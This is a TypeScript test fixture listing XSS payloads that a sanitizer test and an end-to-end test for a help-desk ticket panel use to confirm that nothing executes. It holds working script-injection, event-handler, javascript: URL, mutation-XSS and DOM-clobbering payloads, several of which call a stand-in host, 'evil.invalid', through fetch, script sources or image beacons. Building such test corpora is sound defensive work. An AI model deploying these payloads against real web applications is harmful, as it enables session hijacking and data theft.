// Hostile HTML for ticket subjects, descriptions, replies and notes. Each payload, if anything in it ever ran,
// would set `window.__xss`, change `document.title` to XSS_TITLE, or request something from EVIL_HOST; a test
// renders them (sanitizer unit test in Chromium, the e2e panel test through the fake BoldDesk) and checks that
// none of that happened. Plain data: no imports, usable from Node, the fake and the browser.

export const XSS_TITLE = 'XSS-RAN';
/** A host no payload may reach (the e2e browser blocks non-loopback traffic anyway; the test watches requests). */
export const EVIL_HOST = 'evil.invalid';

export interface XssPayload {
  name: string;
  html: string;
}

// The three effects a payload tries to cause. Kept short so they fit in attributes.
const RUN = 'window.__xss=1';
const TITLE = `document.title='${XSS_TITLE}'`;
const FETCH = `fetch('https://${EVIL_HOST}/f')`;

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script elements
  { name: 'script tag', html: `<script>${RUN}</script>` },
  { name: 'script with src', html: `<script src="https://${EVIL_HOST}/x.js"></script>` },
  { name: 'script uppercase', html: `<SCRIPT>${TITLE}</SCRIPT>` },
  { name: 'script split by null-ish', html: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'script in table', html: `<table><tr><td><script>${RUN}</script></td></tr></table>` },
  { name: 'script type module', html: `<script type="module">${RUN}</script>` },
  // Event handlers
  { name: 'img onerror', html: `<img src=x onerror="${RUN}">` },
  { name: 'img onerror no quotes', html: `<img src=x onerror=${RUN}>` },
  { name: 'img onerror fetch', html: `<img src="/missing.png" onerror="${FETCH}">` },
  { name: 'body onload', html: `<body onload="${RUN}">` },
  { name: 'div onmouseover', html: `<div onmouseover="${RUN}">hover me</div>` },
  { name: 'p onclick', html: `<p onclick="${TITLE}">click me</p>` },
  { name: 'a onfocus autofocus', html: `<a href="#" onfocus="${RUN}" autofocus>x</a>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${RUN}">` },
  { name: 'details ontoggle', html: `<details open ontoggle="${RUN}"><summary>s</summary></details>` },
  { name: 'video onerror', html: `<video><source onerror="${RUN}"></video>` },
  { name: 'audio src onerror', html: `<audio src=x onerror="${TITLE}"></audio>` },
  { name: 'marquee onstart', html: `<marquee onstart="${RUN}">m</marquee>` },
  { name: 'handler with entities', html: `<img src=x onerror="&#119;indow.__xss=1">` },
  { name: 'handler slash separator', html: `<img/src=x/onerror=${RUN}>` },
  { name: 'handler newline separator', html: `<img src=x\nonerror="${RUN}">` },
  // URLs
  { name: 'javascript: link', html: `<a href="javascript:${RUN}">click</a>` },
  { name: 'javascript: link mixed case', html: `<a href="JaVaScRiPt:${RUN}">click</a>` },
  { name: 'javascript: link with tab', html: `<a href="jav\tascript:${RUN}">click</a>` },
  { name: 'javascript: link entity encoded', html: `<a href="&#106;avascript:${RUN}">click</a>` },
  { name: 'javascript: link leading space', html: `<a href=" javascript:${RUN}">click</a>` },
  { name: 'vbscript: link', html: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: 'data: html link', html: `<a href="data:text/html,<script>${RUN}</script>">click</a>` },
  { name: 'data: svg image', html: `<img src="data:image/svg+xml,<svg onload='${RUN}'/>">` },
  { name: 'external image beacon', html: `<img src="https://${EVIL_HOST}/pixel.gif">` },
  { name: 'protocol-relative image', html: `<img src="//${EVIL_HOST}/pixel.gif">` },
  { name: 'srcset beacon', html: `<img srcset="https://${EVIL_HOST}/a.png 1x">` },
  { name: 'form action javascript', html: `<form action="javascript:${RUN}"><button>go</button></form>` },
  { name: 'button formaction', html: `<button formaction="javascript:${RUN}">go</button>` },
  { name: 'base href hijack', html: `<base href="https://${EVIL_HOST}/"><a href="/x">x</a>` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  // Frames and objects
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
  { name: 'iframe javascript src', html: `<iframe src="javascript:parent.__xss=1"></iframe>` },
  { name: 'object data', html: `<object data="javascript:${RUN}"></object>` },
  { name: 'embed src', html: `<embed src="javascript:${RUN}">` },
  { name: 'frameset', html: `<frameset><frame src="javascript:parent.__xss=1"></frameset>` },
  // SVG and MathML
  { name: 'svg onload', html: `<svg onload="${RUN}"></svg>` },
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate href', html: `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>` },
  { name: 'svg foreignObject', html: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>` },
  { name: 'svg use external', html: `<svg><use href="https://${EVIL_HOST}/s.svg#x"/></svg>` },
  { name: 'math href', html: `<math><mi xlink:href="javascript:${RUN}">x</mi></math>` },
  // CSS tricks
  { name: 'style element import', html: `<style>@import url(https://${EVIL_HOST}/s.css);</style>` },
  { name: 'style attribute background', html: `<div style="background:url(https://${EVIL_HOST}/bg.png)">x</div>` },
  { name: 'style overlay', html: `<div style="position:fixed;inset:0;z-index:9999;background:red">fake UI</div>` },
  { name: 'link stylesheet', html: `<link rel="stylesheet" href="https://${EVIL_HOST}/s.css">` },
  { name: 'class imitating a note badge', html: `<span class="badge badge-note">Private note</span>` },
  // Broken markup and parser differentials
  { name: 'unclosed img attribute', html: `<img src="x" alt="<script>${RUN}</script>` },
  { name: 'comment breakout', html: `<!--<img src="--><img src=x onerror=${RUN}//">` },
  { name: 'cdata breakout', html: `<![CDATA[><img src=x onerror=${RUN}>]]>` },
  { name: 'textarea breakout', html: `<textarea></textarea><img src=x onerror=${RUN}></textarea>` },
  { name: 'title breakout', html: `<title></title><img src=x onerror=${RUN}>` },
  { name: 'template content', html: `<template><img src=x onerror="${RUN}"></template>` },
  // Mutation XSS classics
  { name: 'mXSS noscript title', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'mXSS svg style', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  { name: 'mXSS svg style img', html: `<svg><style><img src=x onerror="${RUN}"></style></svg>` },
  { name: 'mXSS math mglyph', html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { name: 'mXSS math mtext form', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
  { name: 'mXSS math annotation-xml', html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>` },
  { name: 'mXSS nested a', html: `<a href="x"><table><a href="javascript:${RUN}">x</a></table></a>` },
  // DOM clobbering and our own protocol
  { name: 'clobber acquireVsCodeApi', html: `<form id="acquireVsCodeApi"><input name="postMessage"></form><img name="getElementById">` },
  { name: 'clobber app element', html: `<div id="app" data-ticket-id="1">x</div><div id="composer-text">y</div>` },
  { name: 'fake postMessage via link', html: `<a href="javascript:acquireVsCodeApi().postMessage({type:'send'})">x</a>` },
];
